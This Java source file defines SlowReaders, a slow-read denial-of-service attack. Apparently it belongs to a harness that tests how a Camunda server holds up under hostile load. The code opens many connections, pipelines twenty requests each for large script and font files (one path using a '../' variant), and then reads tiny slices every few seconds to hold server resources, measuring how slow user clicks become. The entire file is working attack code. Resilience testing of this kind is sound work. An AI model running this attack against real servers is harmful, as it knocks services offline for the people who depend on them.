package be.ptr.hostile;

import java.io.EOFException;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Large scripts that anybody may load, asked for and hardly read.
 *
 * @param longestClick of somebody else, while it lasts
 */
public record SlowReaders(int connections, Duration length, Duration longestClick) implements Attack {
    private static final Duration PACE = Duration.ofSeconds(4);
    private static final int SIP = 512;
    private static final String[] PATHS = {
        "/camunda/lib/deps.js", "/camunda/app/../lib/deps.js", "/camunda/assets/IBMPlexSans-Regular.woff2"
    };

    @Override
    public Finding against(Victim victim) throws InterruptedException {
        return new Siege(victim, length, longestClick)
                .hold(
                        connections + " readers, " + SIP + " bytes each " + PACE.toSeconds() + " s for "
                                + length.toSeconds() + " s",
                        connections,
                        number -> open(victim, PATHS[number % PATHS.length]),
                        PACE,
                        SlowReaders::sip);
    }

    private static Socket open(Victim victim, String path) throws IOException {
        Socket connection = victim.connect(1 << 10);
        String request = "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n\r\n";
        // Asked for again and again on one connection: small files fill its buffer, too.
        connection.getOutputStream().write(request.repeat(20).getBytes(StandardCharsets.US_ASCII));
        return connection;
    }

    /** Fails when the server has closed; nothing to read yet is what we wait for. */
    private static void sip(Socket connection) throws IOException {
        connection.setSoTimeout(1);
        try {
            if (connection.getInputStream().read(new byte[SIP]) < 0) {
                throw new EOFException();
            }
        } catch (SocketTimeoutException nothingYet) {
            return;
        }
    }
}
